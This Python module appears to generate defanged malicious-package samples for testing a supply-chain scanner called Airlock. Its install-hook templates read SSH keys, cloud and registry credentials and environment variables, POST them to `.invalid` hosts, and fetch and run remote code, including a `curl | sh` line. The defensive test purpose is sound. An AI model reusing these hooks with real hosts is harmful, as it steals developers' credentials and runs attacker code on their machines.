"""Harmless look-alikes of malicious packages, made afresh with other names and strings each time.

Nothing in them works: every host ends in `.invalid`, which no resolver answers (RFC 2606), and each would leave a
marker file if any of its code ran. They exist to show what Airlock refuses; none is in the classifier's training data.
"""

import base64
import datetime
import gzip
import hashlib
import io
import json
import random
import string
import tarfile

WORDS = "amber basil cedar delta ember fjord grove hazel islet juniper kelp larch maple nectar otter pollen quartz".split()


def fresh_name(generator):
    return "-".join(generator.sample(WORDS, 2)) + "-" + "".join(generator.choices(string.ascii_lowercase, k=4))


def tarball(files):
    """A gzip-compressed tar of {path: text}, the same bytes for the same input."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as compressed:
        with tarfile.open(fileobj=compressed, mode="w", format=tarfile.PAX_FORMAT) as archive:
            for path, text in files.items():
                data = text.encode()
                member = tarfile.TarInfo(path)
                member.size = len(data)
                member.mtime = 499162500
                archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def python_sdist(name, version, marker, acting, generator):
    """A source distribution; `acting` decides whether its install hook collects, sends, fetches and runs."""
    host = fresh_name(generator) + ".invalid"
    first, second, third = (fresh_name(generator).replace("-", "_") for _ in range(3))
    lines = ["import os", f"open({marker!r}, 'a').write('setup.py of {name} ran\\n')"]
    if acting:
        lines += [
            "import base64, getpass, json, platform, socket, subprocess, sys, tempfile, urllib.request",
            "from setuptools import setup",
            "from setuptools.command.install import install",
            "",
            f"def {first}():",
            "    facts = {'host': socket.gethostname(), 'user': getpass.getuser(), 'system': platform.platform(),",
            "             'variables': dict(os.environ)}",
            "    for path in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.npmrc', '~/.pypirc'):",
            "        try:",
            "            facts[path] = open(os.path.expanduser(path)).read()",
            "        except Exception:",
            "            pass",
            f"    body = base64.b64encode(json.dumps(facts).encode())",
            f"    urllib.request.urlopen(urllib.request.Request('https://{host}/{second}', data=body, method='POST'))",
            "",
            f"def {second}():",
            f"    stage = urllib.request.urlopen('https://{host}/{third}.bin').read()",
            f"    path = os.path.join(tempfile.gettempdir(), '{third}')",
            "    with open(path, 'wb') as out:",
            "        out.write(stage)",
            "    os.chmod(path, 0o755)",
            "    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
            f"    exec(base64.b64decode(urllib.request.urlopen('https://{host}/{first}').read()))",
            "",
            "class Hook(install):",
            "    def run(self):",
            "        install.run(self)",
            "        try:",
            f"            {first}()",
            f"            {second}()",
            "        except Exception:",
            "            pass",
            "",
            f"setup(name={name!r}, version={version!r}, py_modules=[{first!r}], cmdclass={{'install': Hook}})",
        ]
    else:
        lines += ["from setuptools import setup", "", f"setup(name={name!r}, version={version!r}, py_modules=[{first!r}])"]
    root = f"{name}-{version}"
    return tarball(
        {
            f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
            f"{root}/setup.py": "\n".join(lines) + "\n",
            f"{root}/{first}.py": f"def answer():\n    return {generator.randrange(100)}\n",
        }
    )


def npm_tarball(name, version, marker, acting, generator, dependencies=None):
    """An npm package and its manifest; `acting` decides whether its postinstall script collects, sends and runs."""
    host = fresh_name(generator) + ".invalid"
    first, second = (fresh_name(generator).replace("-", "_") for _ in range(2))
    manifest = {"name": name, "version": version, "main": "index.js", "dependencies": dependencies or {}}
    files = {"package/index.js": f"module.exports = () => {generator.randrange(100)};\n"}
    script = [f"require('fs').appendFileSync({marker!r}, 'postinstall of {name} ran\\n');"]
    if acting:
        script += [
            "const https = require('https'), os = require('os'), fs = require('fs'), path = require('path');",
            "const { exec } = require('child_process');",
            f"function {first}() {{",
            "  const facts = { host: os.hostname(), user: os.userInfo().username, home: os.homedir(), env: process.env };",
            "  for (const name of ['.ssh/id_rsa', '.npmrc', '.aws/credentials']) {",
            "    try { facts[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (error) {}",
            "  }",
            "  const body = Buffer.from(JSON.stringify(facts)).toString('base64');",
            f"  const request = https.request({{ hostname: '{host}', path: '/{second}', method: 'POST' }});",
            "  request.on('error', () => {});",
            "  request.write(body);",
            "  request.end();",
            "}",
            f"function {second}() {{",
            f"  https.get('https://{host}/{first}', (response) => {{",
            "    let text = '';",
            "    response.on('data', (part) => { text += part; });",
            "    response.on('end', () => { eval(Buffer.from(text, 'base64').toString()); });",
            "  }).on('error', () => {});",
            f"  exec('curl -s https://{host}/{first}.sh | sh', () => {{}});",
            "}",
            f"{first}();",
            f"{second}();",
        ]
        manifest["scripts"] = {"postinstall": "node setup.js"}
        files["package/setup.js"] = "\n".join(script) + "\n"
    files["package/package.json"] = json.dumps(manifest, indent=2) + "\n"
    return manifest, tarball(files)


def packument(manifest, data, base):
    """The registry document of a package with this one version."""
    name, version = manifest["name"], manifest["version"]
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    entry = dict(manifest)
    entry["dist"] = {
        "tarball": f"{base}/{name}/-/{name}-{version}.tgz",
        "integrity": integrity,
        "shasum": hashlib.sha1(data).hexdigest(),
    }
    if "scripts" in manifest:
        entry["hasInstallScript"] = True
    published = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=100)
    return {
        "name": name, "dist-tags": {"latest": version}, "versions": {version: entry},
        "time": {version: published.strftime("%Y-%m-%dT%H:%M:%S.000Z")},
    }


def fresh_generator():
    return random.Random()
